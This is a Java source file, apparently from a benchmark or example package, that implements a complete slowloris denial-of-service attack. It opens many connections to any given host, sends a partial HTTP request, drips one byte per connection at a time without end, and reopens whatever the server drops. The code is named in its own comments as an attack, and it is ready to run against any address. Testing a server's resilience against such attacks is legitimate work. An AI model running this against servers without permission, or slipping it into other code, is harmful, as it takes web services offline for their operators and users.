package nl.schuilnaam.examples.benchmark;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;

/**
 * A great number of connections that each begin a request and send one more octet of it each second, for ever (known as slowloris). Whichever is closed is opened again at once.
 */
public final class SlowHeads implements AutoCloseable {
    private static final byte[] BEGINNING = "GET /school HTTP/1.1\r\nX-Slow: ".getBytes(StandardCharsets.US_ASCII);
    /** A second; many of them, since a great number of clients do not all send at the same moments. */
    private static final int TURNS = 100;

    private static final long TURN_MILLIS = 10;
    private static final int OPENED_AT_ONCE = 25;

    private final InetSocketAddress address;
    private final int connections;
    private final Thread thread = new Thread(this::run, "slow-heads");
    private volatile boolean ended;
    private volatile int open;
    private final AtomicLong closed = new AtomicLong();

    /** Begins at once, on a thread of its own. */
    public SlowHeads(URI edge, int connections) {
        this.address = new InetSocketAddress(edge.getHost(), edge.getPort());
        this.connections = connections;
        thread.setDaemon(true);
        thread.start();
    }

    /** How many are open now. */
    public int open() {
        return open;
    }

    /** How many the other side has closed. */
    public long closed() {
        return closed.get();
    }

    @Override
    public void close() {
        ended = true;
        try {
            thread.join();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private void run() {
        List<SocketChannel> channels = new ArrayList<>();
        try (Selector selector = Selector.open()) {
            for (int turn = 0; !ended; turn = (turn + 1) % TURNS) {
                long until = System.nanoTime() + TURN_MILLIS * 1_000_000;
                for (int i = 0; i < OPENED_AT_ONCE && channels.size() < connections; i++) {
                    channels.add(connect(selector));
                }
                int whose = turn;
                channels.stream()
                        .filter(channel -> channel.hashCode() % TURNS == whose)
                        .forEach(this::drip);
                channels.removeIf(channel -> !channel.isOpen());
                take(selector, until);
                open = channels.size();
            }
            for (SocketChannel channel : channels) {
                channel.close();
            }
        } catch (IOException e) {
            throw new IllegalStateException("the attack broke off", e);
        }
    }

    private SocketChannel connect(Selector selector) throws IOException {
        SocketChannel channel = SocketChannel.open();
        channel.configureBlocking(false);
        SelectionKey unused = channel.register(selector, SelectionKey.OP_CONNECT);
        if (channel.connect(address)) {
            begin(channel, channel.keyFor(selector));
        }
        return channel;
    }

    private void begin(SocketChannel channel, SelectionKey key) {
        SelectionKey unused = key.interestOps(SelectionKey.OP_READ);
        write(channel, ByteBuffer.wrap(BEGINNING));
    }

    private void drip(SocketChannel channel) {
        if (channel.isConnected()) {
            write(channel, ByteBuffer.wrap(new byte[] {'a'}));
        }
    }

    private void write(SocketChannel channel, ByteBuffer octets) {
        try {
            int unused = channel.write(octets);
        } catch (IOException e) {
            end(channel);
        }
    }

    private void end(SocketChannel channel) {
        closed.incrementAndGet();
        try {
            channel.close();
        } catch (IOException e) {
            // It is gone all the same.
        }
    }

    /** Sees who was let in and who was put out, until the turn is over. */
    private void take(Selector selector, long until) throws IOException {
        ByteBuffer answer = ByteBuffer.allocate(1_024);
        for (long left = until - System.nanoTime(); left > 0; left = until - System.nanoTime()) {
            int unused = selector.select(
                    key -> {
                        SocketChannel channel = (SocketChannel) key.channel();
                        try {
                            if (key.isConnectable()) {
                                if (channel.finishConnect()) {
                                    begin(channel, key);
                                }
                            } else if (channel.read(answer.clear()) < 0) {
                                end(channel);
                            }
                        } catch (IOException e) {
                            end(channel);
                        }
                    },
                    Math.max(1, left / 1_000_000));
        }
    }
}
